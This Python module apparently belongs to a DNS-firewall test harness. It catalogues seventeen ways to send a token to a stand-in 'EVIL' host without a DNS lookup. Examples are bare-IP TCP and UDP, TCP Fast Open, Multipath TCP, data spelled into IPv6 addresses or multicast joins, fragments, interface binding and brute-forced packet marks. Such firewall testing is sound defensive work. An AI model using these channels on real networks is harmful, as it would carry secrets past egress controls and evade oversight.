"""Ways out straight to an address that no allowed name resolved to.

Law: one function a way; ordinary TCP and UDP sockets, and the options that unprivileged programs may set on them.
"""

from __future__ import annotations

import socket
import struct
import time
from ipaddress import IPv6Address, IPv6Network

from dnsfw.playground import atlas
from dnsfw.playground.package.way import Loot, Way

_PORT = 4444
_TCP_FASTOPEN_NO_COOKIE = 34  # <linux/tcp.h>
_MSG_FASTOPEN = 0x20000000
_IPPROTO_MPTCP = 262
_IPPROTO_UDPLITE = 136
_SO_BINDTODEVICE = 25
_SO_MARK = 36
_IP_RECVERR, _IPV6_RECVERR = 11, 25


def _tell(address: str, port: int, loot: Loot) -> None:
    with socket.create_connection((address, port)) as telling:
        telling.sendall(loot.token.encode())
        telling.recv(2)


def tcp_v4(loot: Loot) -> None:
    _tell(atlas.EVIL.v4, _PORT, loot)


def tcp_v6(loot: Loot) -> None:
    _tell(atlas.EVIL.v6, _PORT, loot)


def tcp_mapped(loot: Loot) -> None:
    """An IPv6 socket that speaks IPv4 (RFC 4291 section 2.5.5.2)."""
    with socket.socket(socket.AF_INET6) as telling:
        telling.connect((f"::ffff:{atlas.EVIL.v4}", _PORT))
        telling.sendall(loot.token.encode())
        telling.recv(2)


def other_port(loot: Loot) -> None:
    _tell(atlas.SHARED.v4, 8443, loot)


def in_the_syn(loot: Loot) -> None:
    """TCP Fast Open (RFC 7413) without a cookie: data before any handshake is done."""
    with socket.socket(socket.AF_INET) as telling:
        telling.setsockopt(socket.IPPROTO_TCP, _TCP_FASTOPEN_NO_COOKIE, 1)
        telling.sendto(loot.token.encode(), _MSG_FASTOPEN, (atlas.EVIL.v4, _PORT))
        telling.recv(2)


def multipath(loot: Loot) -> None:
    """RFC 8684."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, _IPPROTO_MPTCP) as telling:
        telling.connect((atlas.EVIL.v4, _PORT))
        telling.sendall(loot.token.encode())
        telling.recv(2)


def address_is_the_message(loot: Loot) -> None:
    """The lower half of the address spells the token: one SYN is enough, whatever becomes of it."""
    network = IPv6Network(atlas.EVIL_V6).network_address
    _tell(str(IPv6Address(int(network) + int(loot.token, 16))), 443, loot)


def group_is_the_message(loot: Loot) -> None:
    """Joining a multicast group makes the kernel itself report the group's address to the link (RFC 9777)."""
    group = int(IPv6Address("ff0e::")) + int(loot.token, 16)
    for index, name in socket.if_nameindex():
        if name != "lo":
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as joining:
                request = IPv6Address(group).packed + struct.pack("=I", index)
                joining.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, request)
                time.sleep(0.1)  # leaving at once would take the report back


def _datagrams(address: str) -> socket.socket:
    """A UDP socket that hears of refusals without being connected (ip(7), IP_RECVERR)."""
    if ":" in address:
        telling = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        telling.setsockopt(socket.IPPROTO_IPV6, _IPV6_RECVERR, 1)
    else:
        telling = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        telling.setsockopt(socket.IPPROTO_IP, _IP_RECVERR, 1)
    return telling


def _send(address: str, port: int, loot: Loot) -> None:
    with _datagrams(address) as telling:
        telling.sendto(loot.token.encode(), (address, port))
        telling.recv(2)


def udp_v4(loot: Loot) -> None:
    _send(atlas.EVIL.v4, _PORT, loot)


def udp_v6(loot: Loot) -> None:
    _send(atlas.EVIL.v6, _PORT, loot)


def udp_connected(loot: Loot) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as telling:
        telling.connect((atlas.EVIL.v4, _PORT))
        telling.send(loot.token.encode())
        telling.send(loot.token.encode())
        telling.recv(2)


def udp_443(loot: Loot) -> None:
    _send(atlas.SHARED.v4, 443, loot)


def udp_123(loot: Loot) -> None:
    _send(atlas.EVIL.v4, 123, loot)


def fragments(loot: Loot) -> None:
    """One datagram in several IP packets (RFC 791 section 3.2), of which only the first has ports."""
    with _datagrams(atlas.EVIL.v4) as telling:
        telling.sendto(loot.token.encode() * 400, (atlas.EVIL.v4, _PORT))
        telling.recv(2)


def udp_lite(loot: Loot) -> None:
    """RFC 3828."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, _IPPROTO_UDPLITE) as telling:
        telling.sendto(loot.token.encode(), (atlas.EVIL.v4, _PORT))


def bound_to_the_device(loot: Loot) -> None:
    """SO_BINDTODEVICE takes a socket past the routing table (socket(7))."""
    for _, name in socket.if_nameindex():
        if name != "lo":
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as telling:
                telling.setsockopt(socket.SOL_SOCKET, _SO_BINDTODEVICE, name.encode())
                telling.sendto(loot.token.encode(), (atlas.EVIL.v4, _PORT))


def marked(loot: Loot) -> None:
    """Every value of each byte of the packet mark: one of them may mean "allowed" to a guard."""
    for mark in (value << shift for shift in (0, 8, 16, 24) for value in range(1, 256)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as telling:
            telling.setsockopt(socket.SOL_SOCKET, _SO_MARK, struct.pack("=I", mark))
            telling.sendto(loot.token.encode(), (atlas.EVIL.v4, _PORT))


WAYS = (
    Way("tcp4", "TCP to a bare IPv4 address", (22,), tcp_v4),
    Way("tcp6", "TCP to a bare IPv6 address", (22,), tcp_v6),
    Way("tcp-mapped", "TCP to IPv4 from an IPv6 socket", (24,), tcp_mapped),
    Way("tcp-other-port", "another port of an allowed address", (22,), other_port),
    Way("tcp-syn-data", "data inside the SYN (TCP Fast Open)", (22,), in_the_syn),
    Way("tcp-multipath", "Multipath TCP", (24,), multipath),
    Way("address-spells", "an IPv6 address that is the message", (22,), address_is_the_message),
    Way("group-spells", "a multicast group that is the message", (22, 24), group_is_the_message),
    Way("udp4", "UDP to a bare IPv4 address", (22,), udp_v4),
    Way("udp6", "UDP to a bare IPv6 address", (22,), udp_v6),
    Way("udp-connected", "UDP from a connected socket", (22, 23), udp_connected),
    Way("udp-443", "UDP 443 (QUIC) of an allowed address", (22,), udp_443),
    Way("udp-123", "UDP port 123 (as NTP)", (22,), udp_123),
    Way("udp-fragments", "a datagram in fragments", (24,), fragments),
    Way("udp-lite", "UDP-Lite", (24,), udp_lite),
    Way("bind-to-device", "a socket bound to the interface", (24,), bound_to_the_device),
    Way("so-mark", "own packet marks, 1,020 of them", (24,), marked),
)
